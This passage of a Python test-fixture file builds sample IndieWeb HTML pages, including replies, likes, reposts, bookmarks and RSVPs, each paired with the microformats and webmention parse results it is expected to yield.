<div class="wp-block-group alignwide has-global-padding is-layout-constrained wp-block-group-is-layout-constrained">
<nav class="wp-block-group alignwide is-content-justification-space-between is-layout-flex wp-block-group-is-layout-flex" aria-label="Posts">
<div class="post-navigation-link-previous wp-block-post-navigation-link"><span class="wp-block-post-navigation-link__arrow-previous is-arrow-arrow" aria-hidden="true">&larr;</span><a href="/2024/02/facepiles/" rel="prev">Facepiles, please</a></div>
<div class="post-navigation-link-next wp-block-post-navigation-link"><a href="/2024/03/spam-filters-for-webmention/" rel="next">Spam filters for webmention</a><span class="wp-block-post-navigation-link__arrow-next is-arrow-arrow" aria-hidden="true">&rarr;</span></div>
</nav>
</div>

<div class="wp-block-comments wp-block-comments-query-loop">
<h2 class="wp-block-comments-title">One response to &#8220;Three months of receiving webmentions&#8221;</h2>
<ol class="wp-block-comment-template">
<li id="comment-88" class="comment even thread-even depth-1">
<div class="wp-block-group is-layout-flow wp-block-group-is-layout-flow">
<div class="wp-block-comment-author-name"><a rel="external nofollow ugc" href="https://fernbyfilms.example/" target="_self">Sam Fernby</a></div>
<div class="wp-block-comment-date"><time datetime="2024-02-19T08:12:00+00:00"><a href="/2024/02/three-months-of-webmentions/#comment-88">February 19, 2024 at 8:12 am</a></time></div>
<div class="wp-block-comment-content"><p>The 202 trick is exactly what I ended up doing too.</p></div>
</div>
</li>
</ol>
</div>
</main>

<footer class="wp-block-template-part">
<div class="wp-block-group has-global-padding is-layout-constrained wp-block-group-is-layout-constrained" style="padding-top:var(--wp--preset--spacing--50);padding-bottom:var(--wp--preset--spacing--50)">
<div class="wp-block-columns alignwide is-layout-flex wp-container-core-columns-is-layout-1 wp-block-columns-is-layout-flex">
<div class="wp-block-column is-layout-flow wp-block-column-is-layout-flow">
<p class="wp-block-site-title"><a href="/" target="_self" rel="home">Slow Web Notes</a></p>
<p class="wp-block-site-tagline">Writing about the web at walking pace.</p>
</div>
<div class="wp-block-column is-layout-flow wp-block-column-is-layout-flow">
<h2 class="wp-block-heading has-medium-font-size">Elsewhere</h2>
<ul class="wp-block-social-links is-layout-flex wp-block-social-links-is-layout-flex"><li class="wp-social-link wp-social-link-mastodon wp-block-social-link"><a rel="me" href="https://social.example/@nadia" class="wp-block-social-link-anchor"><span class="wp-block-social-link-label screen-reader-text">Mastodon</span></a></li><li class="wp-social-link wp-social-link-github wp-block-social-link"><a rel="me" href="https://github.example/nokafor" class="wp-block-social-link-anchor"><span class="wp-block-social-link-label screen-reader-text">GitHub</span></a></li></ul>
</div>
</div>
<p class="has-small-font-size">Designed with <a href="https://wordpress.org" rel="nofollow">WordPress</a></p>
</div>
</footer></div>
<script type="speculationrules">
{"prerender":[{"source":"document","where":{"and":[{"href_matches":"\\/*"},{"not":{"href_matches":["\\/wp-*.php","\\/wp-admin\\/*","\\/wp-content\\/*"]}}]},"eagerness":"moderate"}]}
</script>
<script type="module" src="/wp-includes/js/dist/interactivity.min.js?ver=6.5.2" id="@wordpress/interactivity-js"></script>
</body>
</html>
""", emoji=WP_EMOJI, globalstyles=WP_BLOCK_LIBRARY_CSS), {
    "links": True,
    "property": "mention-of",
    "author_name": "Nadia Okafor",
    "author_url": "/author/nadia/",
    "name": "Three months of receiving webmentions",
    "published": "2024-02-18T14:05:00+00:00",
    "content_contains": "so I now queue everything and answer 202 straight away",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# Shared layout for the hand-rolled static-site (Eleventy/Hugo-ish) pages
# ---------------------------------------------------------------------------
STATIC_CSS = """:root{--fg:#1d1d1f;--bg:#fdfcf8;--accent:#b5451b;--muted:#6b6b6b;--measure:38rem}
*,*::before,*::after{box-sizing:border-box}
html{font-size:112.5%;-webkit-text-size-adjust:100%}
body{margin:0;color:var(--fg);background:var(--bg);font:1rem/1.6 Charter,"Bitstream Charter","Sitka Text",Cambria,serif}
a{color:var(--accent);text-underline-offset:.15em}
a:hover{text-decoration-thickness:2px}
.site-header,.site-footer,main{max-width:var(--measure);margin:0 auto;padding:1rem}
.site-header{display:flex;justify-content:space-between;align-items:baseline;border-bottom:1px solid #e6e1d6}
.site-header nav a{margin-left:1rem;text-decoration:none}
.post-meta{color:var(--muted);font-size:.85rem}
.reply-context{border-left:3px solid #e6e1d6;padding-left:1rem;color:var(--muted);font-size:.9rem}
.avatar{width:48px;height:48px;border-radius:50%;vertical-align:middle}
.visually-hidden{position:absolute!important;clip:rect(1px,1px,1px,1px);overflow:hidden;height:1px;width:1px}
blockquote{margin:1rem 0;padding-left:1rem;border-left:3px solid var(--accent)}
pre,code{font:.85rem/1.5 ui-monospace,SFMono-Regular,Menlo,monospace}
pre{overflow-x:auto;background:#f3f0e8;padding:.75rem}
.webmentions{margin-top:3rem;border-top:1px solid #e6e1d6}
.webmentions ol{list-style:none;padding:0}
.site-footer{color:var(--muted);font-size:.8rem;border-top:1px solid #e6e1d6;margin-top:3rem}
@media (prefers-color-scheme:dark){:root{--fg:#eee;--bg:#151515;--accent:#ff9a6c;--muted:#aaa}}"""

PLAUSIBLE = """<script defer data-domain="{{domain}}" src="/js/script.js"></script>
<script>window.plausible = window.plausible || function() { (window.plausible.q = window.plausible.q || []).push(arguments) }</script>"""


def static_page(title, body, site, domain, extra_head="", lang="en",
                nav=(("/notes/", "Notes"), ("/articles/", "Articles"),
                     ("/about/", "About")), body_attrs=""):
    navhtml = "\n      ".join('<a href="%s">%s</a>' % n for n in nav)
    return T("""<!doctype html>
<html lang="{{lang}}">
<head>
  <meta charset="utf-8">
  <meta name="viewport" content="width=device-width, initial-scale=1">
  <title>{{title}}</title>
  <meta name="generator" content="Eleventy v2.0.1">
  <link rel="alternate" type="application/atom+xml" href="/feed.xml" title="{{site}}">
  <link rel="webmention" href="/webmention">
  <link rel="icon" href="/favicon.svg" type="image/svg+xml">
  <style>
{{css}}
  </style>
{{extra_head}}
  {{plausible}}
</head>
<body{{body_attrs}}>
  <a class="visually-hidden" href="#main">Skip to content</a>
  <header class="site-header">
    <a href="/" rel="home"><strong>{{site}}</strong></a>
    <nav aria-label="Site">
      {{nav}}
    </nav>
  </header>
  <main id="main">
{{body}}
  </main>
  <footer class="site-footer">
    <p>&copy; 2024 {{site}}. Text licensed <a href="https://creativecommons.org/licenses/by-sa/4.0/">CC BY-SA 4.0</a>.
    <a href="/feed.xml">Feed</a> &middot; <a href="/colophon/">Colophon</a> &middot; <a href="/blogroll/">Blogroll</a></p>
    <p><a href="https://xn--sr8hvo.ws/previous">&larr;</a> An IndieWeb Webring <a href="https://xn--sr8hvo.ws/next">&rarr;</a></p>
  </footer>
</body>
</html>
""", lang=lang, title=title, site=site, css=STATIC_CSS, extra_head=extra_head,
             plausible=T(PLAUSIBLE, domain=domain), nav=navhtml, body=body,
             body_attrs=body_attrs)


# ---------------------------------------------------------------------------
# 3. mf2 h-entry reply with p-author h-card (photo)
# ---------------------------------------------------------------------------
page("reply-h-entry.html", static_page(
    "Re: Receiving webmentions without a database \u2014 Jonas Lindqvist",
    """    <article class="h-entry">
      <div class="reply-context">
        In reply to <a class="u-in-reply-to" href="https://blog.example/post/1">Receiving webmentions without a database</a> on blog.example
      </div>
      <header>
        <p class="post-meta">
          <a class="p-author h-card" href="/"><img class="avatar" src="/img/jonas-avatar.jpg" alt="">Jonas Lindqvist</a>
          &middot;
          <a class="u-url" href="/notes/2024-03-05-1012/"><time class="dt-published" datetime="2024-03-05T10:12:00+01:00">5 March 2024, 10:12</time></a>
        </p>
      </header>
      <div class="e-content">
        <p>I tried the flat-file approach for about a year. It works well until two mentions arrive in the same second and both processes rewrite the JSON file; I lost a handful of replies before I noticed.</p>
        <p>What fixed it for me was writing each mention to its own file named after a hash of the source URL, and rebuilding the index lazily. No locks, no database, and deletes are just <code>rm</code>.</p>
        <p>Also: thank you for including the verification step in the write-up. Most tutorials skip it.</p>
      </div>
      <footer class="post-meta">
        Tagged <a class="p-category" href="/tags/webmention/">webmention</a>, <a class="p-category" href="/tags/indieweb/">indieweb</a>
      </footer>
    </article>

    <section class="webmentions" id="webmentions">
      <h2>Responses</h2>
      <p>No responses yet. <a href="/about/#webmention">How to reply</a>.</p>
      <form action="/webmention" method="post">
        <label for="wm-source">Your post URL</label>
        <input id="wm-source" type="url" name="source" placeholder="https://your-site/your-reply">
        <input type="hidden" name="target" value="/notes/2024-03-05-1012/">
        <button type="submit">Send webmention</button>
      </form>
    </section>
""", "Jonas Lindqvist", "jonas.example"), {
    "links": True,
    "property": "in-reply-to",
    "author_name": "Jonas Lindqvist",
    "author_url": "/",
    "name": None,
    "published": "2024-03-05T10:12:00+01:00",
    "content_contains": "writing each mention to its own file named after a hash of the source URL",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 4. Reply to a comment on the target (fragment URL), h-cite reply context
# ---------------------------------------------------------------------------
page("reply-to-comment.html", static_page(
    "A reply to Ravi's comment | Keiko Tanaka",
    """    <article class="h-entry">
      <div class="u-in-reply-to h-cite reply-context">
        <p>In reply to a comment by <span class="p-author h-card"><a class="p-name u-url" href="https://ravi.example/">Ravi</a></span>
        on <a class="u-url" href="https://blog.example/post/1#comment-12">&ldquo;Receiving webmentions without a database&rdquo;</a>:</p>
        <blockquote class="p-content">Has anyone measured how slow the lazy index rebuild gets past ten thousand mentions?</blockquote>
      </div>
      <div class="e-content">
        <p>I have, sort of. My site has a little over twelve thousand stored mentions and a cold rebuild takes about 1.4 seconds on a small VPS, which is fine because it only happens after a deploy.</p>
        <p>The part that actually got slow was sorting by date in the template, not the rebuild. Pre-sorting when writing the index fixed that.</p>
      </div>
      <p class="post-meta">
        Posted by <a class="p-author h-card" href="/"><img class="avatar" src="/media/keiko.png" alt="">Keiko Tanaka</a>
        on <a class="u-url" href="/replies/2024/03/11/ravi-index/"><time class="dt-published" datetime="2024-03-11T21:47:05Z">11 March 2024</time></a>
      </p>
    </article>
    <nav class="post-meta">
      <a rel="prev" href="/replies/2024/03/09/">&larr; Older reply</a> &middot;
      <a rel="next" href="/replies/2024/03/14/">Newer reply &rarr;</a>
    </nav>
""", "Keiko Tanaka", "keiko.example",
    nav=(("/", "Home"), ("/replies/", "Replies"), ("/photos/", "Photos"))), {
    "links": True,
    "property": "in-reply-to",
    "author_name": "Keiko Tanaka",
    "author_url": "/",
    "name": None,
    "published": "2024-03-11T21:47:05Z",
    "content_contains": "a cold rebuild takes about 1.4 seconds on a small VPS",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 5. Like, Bridgy-style rendering of a social-network favorite
# ---------------------------------------------------------------------------
page("like-bridgy.html", """<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Alice Rivera liked a post</title>
<style type="text/css">
body {
  font-family: sans-serif;
  max-width: 40em;
  margin: 2em auto;
  color: #222;
}
.p-author img.u-photo {
  width: 48px;
  height: 48px;
  border-radius: 4px;
  float: left;
  margin-right: 10px;
}
.p-nickname, .p-uid, .dt-published {
  color: #777;
  font-size: 90%;
}
.notice {
  clear: both;
  margin-top: 2em;
  padding: 1em;
  background: #f5f5f5;
  border: 1px solid #ddd;
  font-size: 90%;
}
</style>
</head>
<body>
<article class="h-entry">
  <span class="p-uid">tag:social.example,2013:109834757214436118_favorited_by_22081</span>

  <span class="p-author h-card">
    <data class="p-uid" value="tag:social.example,2013:alice"></data>
    <a class="p-name u-url" href="https://social.example/@alice">Alice Rivera</a>
    <span class="p-nickname">alice</span>
    <img class="u-photo" src="https://files.social.example/accounts/avatars/000/022/081/original/4f2a9c.png" alt="" />
  </span>

  <a class="u-url" href="https://social.example/@blogexample/109834757214436118#favorited-by-22081"></a>
  <time class="dt-published" datetime="2024-03-06T17:20:44+00:00">2024-03-06 17:20</time>

  <div class="e-content">
  </div>

  <a class="u-like-of" href="https://blog.example/post/1"></a>
  <a class="u-like-of" href="https://social.example/@blogexample/109834757214436118"></a>
</article>

<div class="notice">
  <p>This page was generated by a backfeed service so that a favorite on
  <a href="https://social.example/">social.example</a> can be sent as a webmention.
  It is not meant to be read by humans. See <a href="/about">how it works</a>
  or <a href="/docs#privacy">the privacy notes</a>.</p>
  <p>Original post: <a href="https://social.example/@blogexample/109834757214436118">https://social.example/@blogexample/109834757214436118</a></p>
  <p>Account: <a href="https://social.example/@alice">@alice@social.example</a>, backfeed enabled since 2022-11-14.
  Polling interval: 30 minutes. Last successful poll 2024-03-06T17:31:02Z, 14 responses found, 1 new.</p>
</div>
</body>
</html>
""", {
    "links": True,
    "property": "like-of",
    "author_name": "Alice Rivera",
    "author_url": "https://social.example/@alice",
    "name": None,
    "published": "2024-03-06T17:20:44+00:00",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 6. Repost (u-repost-of h-cite carrying the original's author and content)
# ---------------------------------------------------------------------------
page("repost.html", static_page(
    "Dev Patel reposted \u201cReceiving webmentions without a database\u201d",
    """    <article class="h-entry">
      <p class="post-meta">
        <span aria-hidden="true">&#x1F501;</span>
        <a class="p-author h-card" href="/"><img class="avatar" src="/assets/me-64.jpg" alt="">Dev Patel</a>
        reposted
        <a class="u-url" href="/reposts/2024/03/07/1/"><time class="dt-published" datetime="2024-03-07T08:03:00-05:00">March 7, 2024</time></a>
      </p>
      <div class="u-repost-of h-cite">
        <p class="post-meta">
          <span class="p-author h-card"><img class="u-photo avatar" src="https://blog.example/img/avatar.png" alt=""><a class="p-name u-url" href="https://blog.example/">The Example Blog</a></span>
          &middot; <a class="u-url" href="https://blog.example/post/1"><span class="p-name">Receiving webmentions without a database</span></a>
        </p>
        <blockquote class="e-content">
          <p>You do not need a database to receive webmentions. A queue directory, a verification worker and one JSON file per mention will carry a personal site a very long way.</p>
          <p>This post walks through the whole thing, including the part everyone skips: checking that the source really links to you.</p>
        </blockquote>
      </div>
    </article>
    <nav class="post-meta"><a href="/reposts/">All reposts</a> &middot; <a href="/reposts/feed.xml">Reposts feed</a></nav>
""", "Dev Patel", "dev.example",
    nav=(("/", "Home"), ("/reposts/", "Reposts"), ("/now/", "Now"))), {
    "links": True,
    "property": "repost-of",
    "author_name": "Dev Patel",
    "author_url": "/",
    "name": None,
    "published": "2024-03-07T08:03:00-05:00",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 7. Bookmark (u-bookmark-of h-cite) with a short comment
# ---------------------------------------------------------------------------
page("bookmark.html", static_page(
    "Bookmark \u2014 Hannah Vogel",
    """    <article class="h-entry">
      <p class="post-meta">&#x1F516; Bookmarked
        <span class="u-bookmark-of h-cite"><a class="u-url p-name" href="https://blog.example/post/1">Receiving webmentions without a database</a>
        by <span class="p-author">The Example Blog</span></span>
      </p>
      <div class="e-content">
        <p>Saving this for the weekend when I finally rebuild my comment system. The section on queueing verification jobs looks like exactly what I was missing.</p>
      </div>
      <p class="post-meta">
        <a class="u-author" href="/"></a>
        <a class="u-url" href="/bookmarks/2024/03/08/"><time class="dt-published" datetime="2024-03-08T19:30:00+00:00">8 Mar 2024</time></a>
        &middot; <a class="p-category" href="/tags/webmention/">#webmention</a>
      </p>
    </article>
    <aside class="post-meta">
      <div class="h-card">
        <img class="u-photo avatar" src="/img/hannah.jpg" alt="">
        <a class="p-name u-url u-uid" rel="me" href="/">Hannah Vogel</a>
        <p class="p-note">Front-end developer in Hamburg. I bookmark too much.</p>
      </div>
    </aside>
""", "Hannah Vogel", "hannah.example",
    nav=(("/", "Home"), ("/bookmarks/", "Bookmarks"), ("/about/", "About"))), {
    "links": True,
    "property": "bookmark-of",
    "author_name": "Hannah Vogel",
    "author_url": "/",
    "name": None,
    "published": "2024-03-08T19:30:00+00:00",
    "content_contains": "Saving this for the weekend when I finally rebuild my comment system",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 8-11. RSVPs (p-rsvp + u-in-reply-to the target) in four different markups
# ---------------------------------------------------------------------------
page("rsvp-yes.html", static_page(
    "RSVP: Homebrew Website Club \u2014 Marcus Bell",
    """    <article class="h-entry">
      <p class="reply-context">RSVP to <a class="u-in-reply-to" href="https://blog.example/post/1">Homebrew Website Club, March</a></p>
      <p class="e-content p-summary"><data class="p-rsvp" value="yes">I&rsquo;ll be there!</data> Bringing the spare HDMI adapter this time.</p>
      <p class="post-meta">
        <a class="p-author h-card" href="/"><img class="avatar" src="/img/marcus.jpg" alt="">Marcus Bell</a>
        &middot; <a class="u-url" href="/rsvp/2024/03/hwc/"><time class="dt-published" datetime="2024-03-10T12:00:00-08:00">March 10, 2024</time></a>
      </p>
    </article>
""", "Marcus Bell", "marcus.example",
    nav=(("/", "Home"), ("/events/", "Events"), ("/about/", "About"))), {
    "links": True,
    "property": "rsvp",
    "rsvp": "yes",
    "author_name": "Marcus Bell",
    "author_url": "/",
    "name": None,
    "published": "2024-03-10T12:00:00-08:00",
    "content_contains": "Bringing the spare HDMI adapter this time.",
    "encoding": "utf-8",
})

page("rsvp-no.html", static_page(
    "Can't make it to Homebrew Website Club \u2014 Lena Sokolova",
    """    <article class="h-entry">
      <header class="post-meta">
        <span class="p-author h-card"><img class="u-photo avatar" src="/avatar.webp" alt=""><a class="p-name u-url" href="/">Lena Sokolova</a></span>
        <time class="dt-published" datetime="2024-03-11T09:15:00+00:00">11 March</time>
      </header>
      <div class="e-content">
        <p><span class="p-rsvp">no</span> &mdash; sadly I can&rsquo;t make <a class="u-in-reply-to" href="https://blog.example/post/1">this month&rsquo;s Homebrew Website Club</a>.
        Work trip to Tallinn. Have fun and please take notes about the webmention session.</p>
      </div>
      <a class="u-url" href="/2024/03/11/rsvp-hwc/">Permalink</a>
    </article>
""", "Lena Sokolova", "lena.example"), {
    "links": True,
    "property": "rsvp",
    "rsvp": "no",
    "author_name": "Lena Sokolova",
    "author_url": "/",
    "name": None,
    "published": "2024-03-11T09:15:00+00:00",
    "content_contains": "Work trip to Tallinn.",
    "encoding": "utf-8",
})

page("rsvp-maybe.html", static_page(
    "Maybe: HWC \u2014 Ifeoma Eze",
    """    <div class="h-entry">
      <a class="p-author h-card" href="/">Ifeoma Eze</a> RSVPed
      <data class="p-rsvp" value="maybe">maybe</data> to
      <a class="u-in-reply-to" href="https://blog.example/post/1">Homebrew Website Club</a>
      <div class="e-content"><p>Depends on whether the trains are running. Will confirm on the day.</p></div>
      <a class="u-url" href="/notes/2024/03/12/a/"><time class="dt-published" datetime="2024-03-12T07:41:19+01:00">12.03.2024</time></a>
    </div>
""", "Ifeoma Eze", "ifeoma.example"), {
    "links": True,
    "property": "rsvp",
    "rsvp": "maybe",
    "author_name": "Ifeoma Eze",
    "author_url": "/",
    "name": None,
    "published": "2024-03-12T07:41:19+01:00",
    "content_contains": "Depends on whether the trains are running.",
    "encoding": "utf-8",
})

page("rsvp-interested.html", static_page(
    "Interested in Homebrew Website Club \u2014 Pat O'Malley",
    """    <article class="h-entry">
      <div class="e-content">
        <p>Never been to one of these before but <a class="u-in-reply-to" href="https://blog.example/post/1">Homebrew Website Club</a> sounds like my kind of evening.
        Marking myself as <data class="p-rsvp" value="interested">interested</data> until I know my schedule.</p>
      </div>
      <footer class="post-meta">
        <a class="p-author h-card" href="/"><img class="avatar" src="/pat.jpg" alt="Pat O'Malley">Pat O'Malley</a>
        &middot; <a class="u-url" href="/posts/2024-03-12-hwc/"><time class="dt-published" datetime="2024-03-12T18:02:00+00:00">12 Mar 2024</time></a>
      </footer>
    </article>
""", "Pat O'Malley", "pat.example"), {
    "links": True,
    "property": "rsvp",
    "rsvp": "interested",
    "author_name": "Pat O'Malley",
    "author_url": "/",
    "name": None,
    "published": "2024-03-12T18:02:00+00:00",
    "content_contains": "sounds like my kind of evening",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 12. micro.blog-style note: no title, e-content only, space-separated date
# ---------------------------------------------------------------------------
page("microblog-note.html", """<!DOCTYPE html>
<html lang="en">
  <head>
    <meta charset="utf-8">
    <meta http-equiv="X-UA-Compatible" content="IE=edge">
    <meta name="viewport" content="width=device-width, initial-scale=1">
    <title>Manuel Ortiz</title>
    <meta name="description" content="Finally got around to reading the write-up on receiving webmentions without a database">
    <link rel="stylesheet" href="/css/style.css?1709651520">
    <link rel="stylesheet" href="/custom.css?1709651520">
    <link rel="alternate" href="/feed.xml" type="application/rss+xml" title="Manuel Ortiz">
    <link rel="alternate" href="/feed.json" type="application/json" title="Manuel Ortiz">
    <link rel="EditURI" type="application/rsd+xml" href="/rsd.xml">
    <link rel="authorization_endpoint" href="https://micro.example/indieauth/auth">
    <link rel="token_endpoint" href="https://micro.example/indieauth/token">
    <link rel="micropub" href="https://micro.example/micropub">
    <link rel="webmention" href="https://micro.example/webmention">
    <link rel="me" href="https://micro.example/manuel">
    <link rel="shortcut icon" href="https://micro.example/manuel/favicon.png" type="image/x-icon">
    <link rel="apple-touch-icon" sizes="180x180" href="/apple-touch-icon.png">
    <meta property="og:type" content="article">
    <meta property="og:description" content="Finally got around to reading the write-up on receiving webmentions without a database">
    <meta name="twitter:card" content="summary">
  </head>
  <body>
    <nav class="main-nav">
      <a class="normal" href="/"> <span class="arrow">&larr;</span> Home</a>
      <a href="/archive/">Archive</a>
      <a href="/photos/">Photos</a>
      <a href="/replies/">Replies</a>
      <a href="/about/">About</a>
      <a class="cta" href="https://micro.example/manuel" rel="me">Also on Micro.blog</a>
    </nav>

    <section id="wrapper">
      <article class="h-entry post">
        <header>
          <h2 class="headline">
            <a class="u-url" href="/2024/03/05/finally-got-around.html">
              <time class="dt-published" datetime="2024-03-05 10:12:00 -0500">
                Tuesday, March 5, 2024
              </time>
            </a>
          </h2>
        </header>
        <section class="e-content post-body">
          <p>Finally got around to reading <a href="https://blog.example/post/1">the write-up on receiving webmentions without a database</a>. The bit about hashing the source URL into the filename is so simple I&rsquo;m annoyed I didn&rsquo;t think of it.</p>
        </section>
        <section id="post-meta" class="clearfix">
          <a href="/" class="p-author h-card">
            <img class="avatar" src="https://avatars.micro.example/manuel.jpg" width="96" height="96" alt="">
            <div>
              <span class="p-name dark">Manuel Ortiz</span>
              <span>@manuel</span>
            </div>
          </a>
        </section>
      </article>
      <section id="conversation">
        <p><a href="https://micro.example/manuel/2024/03/05/finally-got-around">Reply on Micro.blog</a></p>
      </section>
      <p class="post-footer">
        Posted via <a href="https://micro.example/">Micro.blog</a>. Theme based on Marfa.
      </p>
    </section>
    <footer id="footer">
      <section id="wrapper">
        <ul>
          <li><a href="/feed.xml">RSS</a></li>
          <li><a href="/feed.json">JSON Feed</a></li>
          <li><a href="https://micro.example/manuel" rel="me">Micro.blog</a></li>
        </ul>
        <form method="get" id="search" action="https://duckduckgo.com/">
          <input type="hidden" name="sites" value="manuel.example"/>
          <input type="hidden" name="k8" value="#444444"/>
          <input type="hidden" name="k9" value="#ee4792"/>
          <input type="hidden" name="kt" value="h"/>
          <input class="field" type="text" name="q" maxlength="255" placeholder="To search, type and hit Enter&hellip;"/>
          <input type="submit" value="Search" style="display: none" />
        </form>
      </section>
    </footer>
  </body>
</html>
""", {
    "links": True,
    "property": "mention-of",
    "author_name": "Manuel Ortiz",
    "author_url": "/",
    "name": None,
    "published": "2024-03-05 10:12:00 -0500",
    "content_contains": "The bit about hashing the source URL into the filename is so simple",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 13. Known (withknown) status update replying to the target
# ---------------------------------------------------------------------------
page("known-post.html", """<!DOCTYPE html>
<html lang="en">
<head>
    <meta charset="utf-8">
    <title>Replied to a post on blog.example: Known has had webmention support since 2014, and the hardest part was never the p... | Ben Ashworth</title>
    <meta name="viewport" content="width=device-width, initial-scale=1.0">
    <meta name="description" content="Known has had webmention support since 2014, and the hardest part was never the protocol.">
    <meta name="generator" content="Known https://withknown.com">
    <meta http-equiv="Content-Language" content="en">
    <meta property="og:type" content="article"/>
    <meta property="og:title" content="Replied to a post on blog.example"/>
    <meta property="og:site_name" content="Ben Ashworth"/>
    <meta property="og:image" content="/file/5e1b0c0d9a1f2d0012ab34cd/thumb.jpg"/>
    <meta name="twitter:card" content="summary"/>
    <link href="/external/bootstrap/dist/css/bootstrap.min.css" rel="stylesheet">
    <link href="/external/font-awesome/css/font-awesome.min.css" rel="stylesheet">
    <link href="/css/known.min.css" rel="stylesheet">
    <link href="/Themes/Solo/css/default.css" rel="stylesheet">
    <link href="/2024/replied-to-a-post-on-blogexample" rel="canonical">
    <link rel="alternate" type="application/rss+xml" title="Ben Ashworth" href="/content/all?_t=rss"/>
    <link rel="feed" type="text/html" title="Ben Ashworth" href="/content/all"/>
    <link href="/webmention/" rel="webmention"/>
    <link href="/webmention/" rel="http://webmention.org/"/>
    <link rel="authorization_endpoint" href="https://indieauth.example/auth">
    <link rel="token_endpoint" href="https://tokens.indieauth.example/token">
    <link rel="micropub" href="/micropub/endpoint">
    <script>
        var known = known || {};
        known.session = {loggedIn: false};
        known.config = {displayUrl: '/', debug: false};
        known.page = {currentUrl: '/2024/replied-to-a-post-on-blogexample'};
    </script>
    <script src="/external/jquery/dist/jquery.min.js"></script>
</head>
<body class="idno_pages_entity_view idno_pages_entity">
<div id="pjax-container" class="page-container">
    <div class="navbar navbar-inverse navbar-fixed-top">
        <div class="navbar-inner">
            <div class="container">
                <a class="navbar-brand" href="/">Ben Ashworth</a>
                <div class="navbar-collapse collapse">
                    <form class="navbar-form navbar-left" action="/content/all/" method="get" role="search">
                        <div class="form-group"><input type="search" class="search-query form-control" name="q" placeholder="Search" value=""></div>
                    </form>
                    <ul class="nav navbar-nav">
                        <li><a href="/content/all/">All content</a></li>
                        <li><a href="/content/statusupdates/">Status updates</a></li>
                        <li><a href="/content/posts/">Posts</a></li>
                        <li><a href="/profile/ben">Profile</a></li>
                        <li><a href="/session/login" rel="nofollow">Sign in</a></li>
                    </ul>
                </div>
            </div>
        </div>
    </div>
    <div class="container page-body">
        <div class="row idno-entry idno-entry-status h-entry">
            <div class="col-md-8 col-md-offset-2 status idno-statusupdates idno-object idno-content">
                <div class="visible-xs">
                    <p class="p-author author h-card vcard">
                        <a href="/profile/ben"><img class="u-logo logo u-photo photo" src="/file/5a8fd2b3c0e1f40012ab3f00/thumb.jpg"/></a>
                        <a class="p-name fn u-url url" href="/profile/ben">Ben Ashworth</a>
                        <a class="u-url" href="/"><!-- This is here to force the hand of your MF2 parser --></a>
                    </p>
                </div>
                <div class="datestamp">
                    <p>
                        <a class="u-url url" href="/2024/replied-to-a-post-on-blogexample" rel="permalink">
                            <time class="dt-published" datetime="2024-03-09T16:44:31+00:00">2024-03-09T16:44:31+00:00</time></a>
                        <a href="/2024/replied-to-a-post-on-blogexample#comments"><i class="fa fa-comments"></i> 0 comments</a>
                    </p>
                </div>
                <div class="e-content entry-content">
                    <div class="reply-text">
                        <p><i class="fa fa-reply"></i> Replied to <a href="https://blog.example/post/1" rel="in-reply-to" class="u-in-reply-to">a post on <strong>blog.example</strong></a>:</p>
                    </div>
                    <div class="">
                        <p class="p-name">Known has had webmention support since 2014, and the hardest part was never the protocol. It was deciding what to show: people expect likes as faces, replies as threads, and mentions as something in between.</p>
                    </div>
                </div>
                <div class="footer">
                    <div class="permalink">
                        <p>
                            <a href="/2024/replied-to-a-post-on-blogexample#comments"><i class="fa fa-comments"></i> 0 comments</a>
                            &nbsp; <a href="/2024/replied-to-a-post-on-blogexample#stars"><i class="fa fa-star"></i> 0 stars</a>
                            &nbsp; <a href="/2024/replied-to-a-post-on-blogexample#shares"><i class="fa fa-retweet"></i> 0 shares</a>
                        </p>
                    </div>
                </div>
                <div class="annotations">
                    <a name="comments"></a>
                    <form action="/annotation/post" method="post">
                        <h3>Leave a comment</h3>
                        <div class="form-group"><input type="text" name="name" class="form-control" placeholder="Your name"></div>
                        <div class="form-group"><input type="text" name="url" class="form-control" placeholder="Your website address"></div>
                        <div class="form-group"><textarea name="body" class="form-control" rows="5" placeholder="Your comment"></textarea></div>
                        <input type="hidden" name="object" value="65ec9f2f6ddc4a0012c54b21">
                        <input type="submit" class="btn btn-primary" value="Leave a comment">
                    </form>
                    <p class="interactions">Also on: <a href="https://social.example/@ben/112067901215377645" class="u-syndication" rel="syndication">social.example</a></p>
                </div>
            </div>
        </div>
    </div>
    <div class="blank-footer">
        <div class="container">
            <p>Powered by <a href="https://withknown.com">Known</a>.</p>
        </div>
    </div>
</div>
<script src="/external/bootstrap/dist/js/bootstrap.min.js"></script>
<script src="/js/default.min.js"></script>
<script src="/js/embeds.min.js"></script>
</body>
</html>
""", {
    "links": True,
    "property": "in-reply-to",
    "author_name": "Ben Ashworth",
    "published": "2024-03-09T16:44:31+00:00",
    "content_contains": "people expect likes as faces, replies as threads",
    "encoding": "utf-8",
})

# ---------------------------------------------------------------------------
# 14. h-feed (home page) with five h-entries; only the third links to target
#     (the second links to a *different* post, /post/12, as a trap)
# ---------------------------------------------------------------------------
FEED_ENTRIES = [
    ("Sourdough, week six", "/2024/03/sourdough-week-six/",
     "2024-03-14T07:30:00+01:00",
     "<p>The starter finally doubles in four hours. I have been feeding it rye in the mornings and plain white at night, and keeping it on top of the fridge, which is the only warm place in this flat.</p>"
     "<p>The crumb is still too tight. Next week: longer bulk, less fiddling.</p>"),
    ("Notes from the March meetup", "/2024/03/march-meetup-notes/",
     "2024-03-12T22:10:00+01:00",
     "<p>Eleven people came, two of them new. We spent most of the evening on RSS readers and whether anyone still uses folders. There was also a good tangent about <a href=\"https://blog.example/post/12\">styling code blocks for dark mode</a>.</p>"
     "<p>Next meetup is the second Tuesday in April, same place.</p>"),
    ("Why I stopped using a comments plugin", "/2024/03/stopped-using-comments-plugin/",
     "2024-03-09T18:45:00+01:00",
     "<p>For six years this site had a comment form, and for six years about ninety percent of what arrived through it was spam. Last month I removed it.</p>"
